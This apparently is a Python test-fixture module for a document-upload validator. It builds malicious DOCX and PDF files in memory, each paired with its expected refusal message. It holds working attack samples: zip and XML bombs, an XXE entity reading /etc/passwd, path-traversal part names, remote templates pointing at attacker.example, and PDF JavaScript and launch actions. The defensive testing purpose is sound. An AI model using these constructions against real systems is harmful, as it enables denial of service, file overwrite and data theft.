"""A corpus of hostile uploads, built in memory: each file, the name it is sent under, and
the exact message that refuses it.

The ZIP packages are written byte by byte (`zip_package`), so that they can say what a
hostile one says: sizes that lie, names that repeat or climb out of the folder, a local
header that names another part. The PDFs are written object by object (`pdf_file`),
JavaScript hidden in a compressed object stream included.
"""

import functools
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass, field

from egitrs.sample_documents import docx_bytes, pdf_bytes

# The standard 68 bytes that every antivirus detects, as a test.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504

RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_RELATIONSHIPS = "http://schemas.microsoft.com/office/2006/relationships"


@dataclass(frozen=True)
class Hostile:
    """An upload that must be refused, by the rule its message names."""

    kind: str
    name: str
    content: bytes = field(repr=False)
    message: str


# What each rule says, with the file's name.
def mismatch(name, kind):
    extension = name.rsplit(".", 1)[-1]
    return f"“{name}” is named .{extension} but its content is not a {kind} document."


MESSAGES = {
    "damaged": "“{name}” is damaged or incomplete; save it again and upload the new file.",
    "macros": "“{name}” contains macros; save it as a document without macros.",
    "embedded": (
        "“{name}” contains embedded files or objects (another document, an archive, an OLE "
        "object or an ActiveX control); remove them or paste them as pictures, save the "
        "document and upload it again."
    ),
    "external": (
        "“{name}” loads content from outside the file (a remote template, picture or linked "
        "object); remove the link, save the document and upload it again."
    ),
    "unpacked_size": "“{name}” unpacks to more than a document can hold; it was refused.",
    "entries": "“{name}” has more parts than a document can hold; it was refused.",
    "duplicate_entries": "“{name}” contains two parts with the same name; it was refused.",
    "unsafe_entry_names": (
        "“{name}” contains parts with names that point outside the document; it was refused."
    ),
    "xml_entities": (
        "“{name}” contains XML declarations (a DTD or entities) that documents never use; "
        "it was refused."
    ),
    "html_parts": "“{name}” contains web pages inside it; it was refused.",
    "polyglot_html": (
        "“{name}” is also a web page (it carries HTML or script code); it was refused."
    ),
    "polyglot_pdf": "“{name}” is also a PDF file; it was refused.",
    "polyglot_zip": "“{name}” is also a ZIP archive; it was refused.",
    "pdf_javascript": (
        "“{name}” contains JavaScript; save it as a PDF without scripts (for example by "
        "printing it to PDF) and upload it again."
    ),
    "pdf_launch": "“{name}” contains an action that starts a program; it was refused.",
    "pdf_embedded_files": (
        "“{name}” has files attached inside it; remove the attachments, save it and upload "
        "it again."
    ),
    "pdf_protected": (
        "“{name}” is protected with a password, so what it contains cannot be checked; save "
        "it without protection and upload it again."
    ),
    "extension": "“{name}” is not an accepted document type. Accepted: PDF, DOCX, XLSX, PPTX.",
    "name_characters": (
        "The name of “{name}” contains control characters (such as line breaks); rename the "
        "file and choose it again."
    ),
    "name_length": (
        "The file name is longer than 200 characters; rename the file with a shorter name and "
        "choose it again."
    ),
    "virus": "“{name}” was refused: the virus scanner found {signature} in it.",
}


def hostile(kind, name, content, *, shown=None, **params):
    """A hostile upload refused by `kind`; `shown` is its name as the message shows it."""
    return Hostile(kind, name, content, MESSAGES[kind].format(name=shown or name, **params))


# ---- ZIP packages, byte by byte ----


@dataclass
class Entry:
    name: str
    data: bytes = b""
    deflate: bool = True
    # What the headers say, when they lie; None: the truth.
    declared_size: int | None = None
    local_name: str | None = None
    method: int | None = None
    flags: int = 0
    # Already deflated data and its real size (a bomb too large to hold unpacked).
    raw: bytes | None = None


def zip_package(entries, *, prefix=b"", suffix=b""):
    out = io.BytesIO()
    out.write(prefix)
    central = []
    for entry in entries:
        if entry.raw is not None:
            compressed, crc, size = entry.raw, 0, entry.declared_size
        else:
            compressed = _deflate(entry.data) if entry.deflate else entry.data
            crc, size = zlib.crc32(entry.data), len(entry.data)
        if entry.declared_size is not None:
            size = entry.declared_size
        method = entry.method if entry.method is not None else (8 if entry.deflate else 0)
        name = entry.name.encode()
        local_name = (entry.local_name or entry.name).encode()
        flags = entry.flags | 0x800
        offset = out.tell() - len(prefix)
        out.write(
            struct.pack(
                "<4s5H3L2H",
                b"PK\x03\x04",
                20,
                flags,
                method,
                0,
                0x21,
                crc,
                len(compressed),
                size,
                len(local_name),
                0,
            )
        )
        out.write(local_name + compressed)
        central.append(
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                20,
                20,
                flags,
                method,
                0,
                0x21,
                crc,
                len(compressed),
                size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + name
        )
    directory_offset = out.tell() - len(prefix)
    directory = b"".join(central)
    out.write(directory)
    out.write(
        struct.pack(
            "<4s4H2LH",
            b"PK\x05\x06",
            0,
            0,
            len(central),
            len(central),
            len(directory),
            directory_offset,
            0,
        )
    )
    out.write(suffix)
    return out.getvalue()


def _deflate(data):
    compressor = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush()


@functools.cache
def deflated_zeros(mebibytes):
    """Deflate data that inflates to `mebibytes` MiB of zeros, made from one MiB: after a
    full flush the compressor starts afresh, so the same block can be repeated."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = compressor.compress(b"\0" * 2**20) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * mebibytes + compressor.flush()


def bomb_entry(name, mebibytes, *, declared_size):
    return Entry(name, raw=deflated_zeros(mebibytes), declared_size=declared_size)


@functools.cache
def docx_parts():
    """The parts of a real DOCX (python-docx's), by name, in their order."""
    with zipfile.ZipFile(io.BytesIO(docx_bytes("Proposal", ["Text."]))) as package:
        return {info.filename: package.read(info) for info in package.infolist()}


def docx(*, replace=None, add=(), drop=(), prefix=b"", suffix=b"", first=()):
    """A DOCX from python-docx's parts: some replaced, some dropped, entries added."""
    parts = dict(docx_parts())
    parts.update(replace or {})
    entries = list(first)
    entries += [Entry(name, data) for name, data in parts.items() if name not in drop]
    entries += list(add)
    return zip_package(entries, prefix=prefix, suffix=suffix)


def content_types(*extra):
    """python-docx's [Content_Types].xml with more Default or Override elements."""
    types = docx_parts()["[Content_Types].xml"].decode()
    return types.replace("</Types>", "".join(extra) + "</Types>").encode()


def override(part, content_type):
    return f'<Override PartName="{part}" ContentType="{content_type}"/>'


def document_rels(*relationships):
    """python-docx's word/_rels/document.xml.rels with more relationships."""
    rels = docx_parts()["word/_rels/document.xml.rels"].decode()
    added = "".join(
        f'<Relationship Id="rIdX{i}" Type="{kind}" Target="{target}"{mode}/>'
        for i, (kind, target, mode) in enumerate(relationships)
    )
    return rels.replace("</Relationships>", added + "</Relationships>").encode()


def rels(*relationships):
    body = "".join(
        f'<Relationship Id="rId{i}" Type="{kind}" Target="{target}"{mode}/>'
        for i, (kind, target, mode) in enumerate(relationships)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{body}</Relationships>"
    ).encode()


EXTERNAL = ' TargetMode="External"'
DOCUMENT = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
    + DOCUMENT
    + "<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
).encode()
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" '
    b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>&xxe;</Types>'
)


# ---- PDFs, object by object ----


def pdf_file(catalog_extra=b"", objects=(), page_extra=b"", *, version=b"1.4", head=b""):
    """A one-page PDF with more in its catalog and page, and more objects (from 6 0 R)."""
    content = b"BT /F1 18 Tf 72 770 Td (Proposal) Tj ET"
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R " + page_extra + b" >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        *objects,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-" + version + b"\n" + head)
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n" % (len(bodies) + 1, xref))
    out.write(b"%%EOF\n")
    return out.getvalue()


def pdf_with_object_stream(catalog):
    """A PDF 1.5 whose catalog is packed, compressed, in an object stream, found through a
    cross-reference stream: nothing of it shows in the file's bytes."""
    content = b"BT /F1 18 Tf 72 770 Td (Proposal) Tj ET"
    plain = {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        5: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
    }
    packed_header = b"1 0 "
    packed = zlib.compress(packed_header + catalog)
    plain[6] = b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\n" % (
        len(packed_header),
        len(packed),
    ) + (b"stream\n" + packed + b"\nendstream")
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in plain.items():
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    offsets[7] = out.tell()
    rows = struct.pack(">BLH", 0, 0, 65535) + struct.pack(">BLH", 2, 6, 0)
    rows += b"".join(struct.pack(">BLH", 1, offsets[n], 0) for n in range(2, 8))
    out.write(
        b"7 0 obj\n<< /Type /XRef /Size 8 /Root 1 0 R /W [1 4 2] /Length %d >>\nstream\n"
        % len(rows)
        + rows
        + b"\nendstream\nendobj\n"
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[7])
    return out.getvalue()


def encrypted_pdf():
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes("Secret", ["Text."]))))
    writer.encrypt("open sesame", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


# ---- The corpus ----


def office_files():
    word = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    settings_rels = "word/_rels/settings.xml.rels"
    nested_zip = zip_package([Entry("inner.txt", b"inner")])
    nested_bomb = zip_package([bomb_entry("zeros.bin", 300, declared_size=300 * 2**20)])
    return [
        # Macros, by name, by content type and by relationship, under any part name.
        hostile("macros", "vba-by-name.docx", docx(add=[Entry("word/vbaProject.bin", OLE)])),
        hostile(
            "macros",
            "vba-content-type.docx",
            docx(
                replace={
                    "[Content_Types].xml": content_types(
                        override("/word/media/image9.png", "application/vnd.ms-office.vbaProject")
                    )
                },
                add=[Entry("word/media/image9.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 64)],
            ),
        ),
        hostile(
            "macros",
            "vba-default-type.docx",
            docx(
                replace={
                    "[Content_Types].xml": content_types(
                        '<Default Extension="dat" ContentType="application/vnd.ms-office.'
                        'vbaProject"/>'
                    )
                },
                add=[Entry("word/logo.dat", b"\0" * 64)],
            ),
        ),
        hostile(
            "macros",
            "macro-enabled-type.docx",
            docx(
                replace={
                    "[Content_Types].xml": docx_parts()["[Content_Types].xml"].replace(
                        b"wordprocessingml.document.main+xml",
                        b"wordprocessingml.document.macroEnabled.main+xml",
                    )
                }
            ),
        ),
        hostile(
            "macros",
            "vba-relationship.docx",
            docx(
                replace={
                    "word/_rels/document.xml.rels": document_rels(
                        (f"{MS_RELATIONSHIPS}/vbaProject", "media/logo.png", "")
                    )
                },
                add=[Entry("word/media/logo.png", b"\x89PNG\r\n\x1a\n")],
            ),
        ),
        hostile(
            "macros",
            "vba-in-other-rels.docx",
            docx(
                add=[
                    Entry(settings_rels, rels((f"{MS_RELATIONSHIPS}/vbaProject", "x.bin", ""))),
                    Entry("word/x.bin", b"\0" * 32),
                ]
            ),
        ),
        hostile(
            "macros",
            "word-vba-data.docx",
            docx(
                add=[
                    Entry(
                        settings_rels,
                        rels((f"{MS_RELATIONSHIPS}/wordVbaData", "vbaData.xml", "")),
                    )
                ]
            ),
        ),
        hostile(
            "macros",
            "xlm-macrosheet.docx",
            docx(
                replace={
                    "[Content_Types].xml": content_types(
                        override("/word/sheet.xml", "application/vnd.ms-excel.macrosheet+xml")
                    )
                },
                add=[Entry("word/sheet.xml", b"<xm:macrosheet xmlns:xm='x'/>")],
            ),
        ),
        hostile(
            "macros",
            "vba-signature.docx",
            docx(
                replace={
                    "[Content_Types].xml": content_types(
                        override(
                            "/word/signature.bin", "application/vnd.ms-office.vbaProjectSignature"
                        )
                    )
                },
                add=[Entry("word/signature.bin", b"\0" * 16)],
            ),
        ),
        # Embedded files and objects, nested archives and bombs.
        hostile(
            "embedded", "nested-zip.docx", docx(add=[Entry("word/media/data.bin", nested_zip)])
        ),
        hostile(
            "embedded",
            "nested-bomb.docx",
            docx(add=[Entry("word/media/image2.png", nested_bomb, deflate=False)]),
        ),
        hostile(
            "embedded",
            "ole-object.docx",
            docx(add=[Entry("word/embeddings/oleObject1.bin", OLE)]),
        ),
        hostile(
            "embedded",
            "pdf-inside.docx",
            docx(add=[Entry("word/media/image3.png", pdf_bytes("Inner", []))]),
        ),
        hostile(
            "embedded",
            "activex-type.docx",
            docx(
                replace={
                    "[Content_Types].xml": content_types(
                        override(
                            "/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"
                        )
                    )
                },
                add=[Entry("word/activeX/activeX1.xml", b"<ax:ocx xmlns:ax='x'/>")],
            ),
        ),
        hostile(
            "embedded",
            "ole-relationship.docx",
            docx(
                replace={
                    "word/_rels/document.xml.rels": document_rels(
                        (f"{word}/oleObject", "embeddings/object.dat", "")
                    )
                },
                add=[Entry("word/embeddings/object.dat", b"\0" * 16)],
            ),
        ),
        hostile(
            "embedded",
            "package-relationship.docx",
            docx(
                replace={
                    "word/_rels/document.xml.rels": document_rels(
                        (f"{word}/package", "embeddings/sheet.dat", "")
                    )
                },
                add=[Entry("word/embeddings/sheet.dat", b"\0" * 16)],
            ),
        ),
        hostile(
            "embedded",
            "activex-control.docx",
            docx(
                replace={
                    "word/_rels/document.xml.rels": document_rels(
                        (f"{word}/control", "activeX/activeX1.xml", "")
                    )
                },
            ),
        ),
        # Content fetched from outside the file when it opens.
        hostile(
            "external",
            "remote-picture.docx",
            docx(
                replace={
                    "word/_rels/document.xml.rels": document_rels(
                        (f"{word}/image", "http://attacker.example/pixel.png", EXTERNAL)
                    )
                }
            ),
        ),
        hostile(
            "external",
            "remote-template.docx",
            docx(
                add=[
                    Entry(
                        settings_rels,
                        rels(
                            (
                                f"{word}/attachedTemplate",
                                "https://attacker.example/template.dotm",
                                EXTERNAL,
                            )
                        ),
                    )
                ]
            ),
        ),
        hostile(
            "external",
            "attached-template.docx",
            docx(add=[Entry(settings_rels, rels((f"{word}/attachedTemplate", "t.dotm", "")))]),
        ),
        hostile(
            "external",
            "unc-hyperlink.docx",
            docx(
                replace={
                    "word/_rels/document.xml.rels": document_rels(
                        (f"{word}/hyperlink", "file://attacker.example/share/x", EXTERNAL)
                    )
                }
            ),
        ),
        hostile(
            "external",
            "remote-frame.docx",
            docx(
                add=[
                    Entry(
                        "word/_rels/webSettings.xml.rels",
                        rels(
                            (
                                f"{word}/frame",
                                "https://attacker.example/",
                                ' TargetMode="external"',
                            )
                        ),
                    )
                ]
            ),
        ),
        hostile(
            "external",
            "remote-subdocument.docx",
            docx(
                replace={
                    "word/_rels/document.xml.rels": document_rels(
                        (f"{word}/subDocument", "\\\\attacker\\share\\x.docx", EXTERNAL)
                    )
                }
            ),
        ),
        # Bombs: sizes that lie, and the truth.
        hostile(
            "unpacked_size",
            "bomb-lying-headers.docx",
            docx(add=[bomb_entry("word/media/image1.png", 300, declared_size=1000)]),
        ),
        hostile(
            "unpacked_size",
            "bomb-honest-headers.docx",
            docx(add=[bomb_entry("word/media/image1.png", 300, declared_size=300 * 2**20)]),
        ),
        hostile(
            "unpacked_size",
            "bomb-content-types.docx",
            docx(
                replace={
                    "[Content_Types].xml": docx_parts()["[Content_Types].xml"].replace(
                        b"</Types>", b" " * (11 * 2**20) + b"</Types>"
                    )
                }
            ),
        ),
        hostile(
            "entries",
            "many-parts.docx",
            docx(add=[Entry(f"word/p{i}.bin", b"", deflate=False) for i in range(2000)]),
        ),
        # Names of parts.
        hostile(
            "duplicate_entries",
            "duplicate.docx",
            docx(add=[Entry("word/document.xml", DOCUMENT.encode() + b"</w:document>")]),
        ),
        hostile(
            "duplicate_entries",
            "duplicate-case.docx",
            docx(add=[Entry("WORD/Document.xml", DOCUMENT.encode() + b"</w:document>")]),
        ),
        hostile("unsafe_entry_names", "climbs.docx", docx(add=[Entry("../../evil.sh", b"x")])),
        hostile(
            "unsafe_entry_names",
            "climbs-inside.docx",
            docx(add=[Entry("word/../../../etc/cron.d/x", b"x")]),
        ),
        hostile("unsafe_entry_names", "absolute.docx", docx(add=[Entry("/etc/passwd", b"x")])),
        hostile(
            "unsafe_entry_names",
            "backslashes.docx",
            docx(add=[Entry("word\\..\\..\\evil.bat", b"x")]),
        ),
        hostile("unsafe_entry_names", "drive.docx", docx(add=[Entry("C:/evil.dll", b"x")])),
        hostile("unsafe_entry_names", "nul-entry.docx", docx(add=[Entry("word/a\x00.xml", b"x")])),
        # XML bombs and external entities.
        hostile(
            "xml_entities", "billion-laughs.docx", docx(replace={"word/document.xml": LAUGHS})
        ),
        hostile("xml_entities", "xxe.docx", docx(replace={"[Content_Types].xml": XXE})),
        hostile(
            "xml_entities",
            "dtd-in-rels.docx",
            docx(
                replace={
                    "_rels/.rels": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "b">]>'
                    + docx_parts()["_rels/.rels"].split(b"?>", 1)[1]
                }
            ),
        ),
        hostile(
            "xml_entities",
            "external-dtd.docx",
            docx(
                replace={
                    "word/styles.xml": b'<?xml version="1.0"?><!DOCTYPE w:styles SYSTEM '
                    b'"http://attacker.example/x.dtd"><w:styles xmlns:w="x"/>'
                }
            ),
        ),
        hostile(
            "xml_entities",
            "utf16-dtd.docx",
            docx(
                replace={
                    "word/document.xml": LAUGHS.decode()
                    .replace('encoding="UTF-8"', "")
                    .replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
                    .encode("utf-16")
                }
            ),
        ),
        # Damaged packages, and packages that hide what they are.
        hostile("damaged", "truncated.docx", docx()[: len(docx()) // 2]),
        hostile("damaged", "bad-checksum.docx", _bad_checksum(docx())),
        hostile(
            "damaged",
            "other-local-name.docx",
            docx(add=[Entry("word/notes.xml", b"<a/>", local_name="word/vbaProject.bin")]),
        ),
        hostile(
            "damaged",
            "size-lies-small.docx",
            docx(add=[Entry("word/media/image5.png", b"\0" * 2**20, declared_size=100)]),
        ),
        hostile(
            "damaged",
            "broken-xml.docx",
            docx(replace={"[Content_Types].xml": b"<Types><Default"}),
        ),
        hostile(
            "damaged",
            "encrypted-entry.docx",
            docx(add=[Entry("word/secret.xml", b"<a/>", flags=0x1)]),
        ),
        hostile(
            "damaged",
            "bzip2-entry.docx",
            docx(add=[Entry("word/media/x.png", b"BZh9", deflate=False, method=12)]),
        ),
        hostile("polyglot_html", "page-then-docx.docx", docx(prefix=HTML)),
        hostile(
            "polyglot_html",
            "docx-starting-html.docx",
            docx(first=[Entry("index.html", HTML, deflate=False)]),
        ),
        hostile("polyglot_pdf", "pdf-then-docx.docx", docx(prefix=pdf_bytes("PDF", []))),
        hostile(
            "polyglot_pdf",
            "docx-starting-pdf.docx",
            docx(first=[Entry("a.txt", b"%PDF-1.4\n1 0 obj", deflate=False)]),
        ),
        hostile(
            "html_parts",
            "html-part.docx",
            docx(
                replace={
                    "[Content_Types].xml": content_types(override("/word/page.dat", "text/html"))
                },
                add=[Entry("word/page.dat", HTML)],
            ),
        ),
        hostile(
            "html_parts",
            "alt-chunk.docx",
            docx(add=[Entry("word/afchunk.mht", b"MIME-Version: 1.0\r\n\r\n" + HTML)]),
        ),
    ]


def _bad_checksum(package):
    """The package with one byte of its document part's compressed data changed."""
    start = package.index(b"word/document.xml") + len("word/document.xml") + 20
    return package[:start] + bytes([package[start] ^ 0xFF]) + package[start + 1 :]


def pdf_files():
    launch = b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"
    attachment = (
        b"<< /Type /Filespec /F (payload.exe) /EF << /F 7 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
    )
    real = pdf_bytes("Proposal", ["Text."])
    return [
        hostile("pdf_javascript", "open-action.pdf", pdf_file(b"/OpenAction " + JS_ACTION)),
        hostile(
            "pdf_javascript",
            "open-action-reference.pdf",
            pdf_file(b"/OpenAction 6 0 R", [JS_ACTION]),
        ),
        hostile(
            "pdf_javascript",
            "names-javascript.pdf",
            pdf_file(
                b"/Names << /JavaScript 6 0 R >>",
                [b"<< /Names [(a) 7 0 R] >>", JS_ACTION],
            ),
        ),
        hostile(
            "pdf_javascript",
            "annotation-script.pdf",
            pdf_file(
                page_extra=b"/Annots [6 0 R]",
                objects=[
                    b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + JS_ACTION + b" >>"
                ],
            ),
        ),
        hostile(
            "pdf_javascript",
            "page-open-script.pdf",
            pdf_file(page_extra=b"/AA << /O " + JS_ACTION + b" >>"),
        ),
        hostile(
            "pdf_javascript",
            "escaped-name.pdf",
            pdf_file(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        ),
        hostile(
            "pdf_javascript",
            "object-stream-script.pdf",
            pdf_with_object_stream(
                b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + JS_ACTION + b" >>"
            ),
        ),
        hostile("pdf_launch", "launch.pdf", pdf_file(b"/OpenAction " + launch)),
        hostile(
            "pdf_embedded_files",
            "embedded-files.pdf",
            pdf_file(
                b"/Names << /EmbeddedFiles 6 0 R >>", [b"<< /Names [(x) 7 0 R] >>", *attachment]
            ),
        ),
        hostile(
            "pdf_embedded_files",
            "file-attachment.pdf",
            pdf_file(
                page_extra=b"/Annots [6 0 R]",
                objects=[
                    b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>",
                    *attachment,
                ],
            ),
        ),
        hostile(
            "pdf_embedded_files",
            "embedded-file-stream.pdf",
            pdf_file(objects=[b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"]),
        ),
        hostile("pdf_protected", "password.pdf", encrypted_pdf()),
        hostile("polyglot_html", "pdf-with-html.pdf", pdf_file(head=b"%" + HTML + b"\n")),
        hostile("polyglot_html", "html-then-pdf.pdf", HTML + real),
        hostile("polyglot_zip", "pdf-and-zip.pdf", real + zip_package([Entry("x.txt", b"x")])),
        hostile("damaged", "truncated.pdf", real[: len(real) // 2]),
        hostile("damaged", "no-objects.pdf", b"%PDF-1.4\nnot a document at all\n%%EOF\n"),
        hostile(
            "damaged",
            "broken-xref.pdf",
            b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R\nendobj\nxref\n0 1\ngarbage\n"
            b"trailer\n<< /Root 1 0 R >>\nstartxref\n99999\n%%EOF\n",
        ),
    ]


def other_files():
    real_docx = docx_bytes("Proposal", ["Text."])
    real_pdf = pdf_bytes("Proposal", ["Text."])
    long_name = "a" * 996 + ".pdf"
    return [
        hostile("extension", "setup.exe", EXECUTABLE),
        hostile("extension", "proposal.docm", real_docx),
        hostile("extension", "page.html", HTML),
        hostile("extension", "proposal.doc", OLE),
        Hostile("content", "setup.pdf", EXECUTABLE, mismatch("setup.pdf", "PDF")),
        Hostile("content", "page.docx", HTML, mismatch("page.docx", "DOCX")),
        Hostile("content", "report.docx", real_pdf, mismatch("report.docx", "DOCX")),
        Hostile("content", "proposal.pdf", real_docx, mismatch("proposal.pdf", "PDF")),
        Hostile(
            "content",
            "junk-then-pdf.pdf",
            b"junk\n" + real_pdf,
            mismatch("junk-then-pdf.pdf", "PDF"),
        ),
        hostile("name_length", long_name, real_pdf),
        hostile("name_length", "b" * 197 + ".pdf", real_pdf),
        hostile("name_characters", "report\x00.pdf", real_pdf, shown="report.pdf"),
        hostile("name_characters", "\x1b[31mred.pdf", real_pdf, shown="[31mred.pdf"),
        hostile("name_characters", "report\u202excod.pdf", real_pdf, shown="reportxcod.pdf"),
    ]


def corpus():
    return office_files() + pdf_files() + other_files()


def virus_files(signature):
    return [
        hostile("virus", "eicar.pdf", EICAR, signature=signature),
        hostile(
            "virus",
            "eicar-inside.docx",
            docx(add=[Entry("word/media/eicar.com", EICAR)]),
            signature=signature,
        ),
    ]
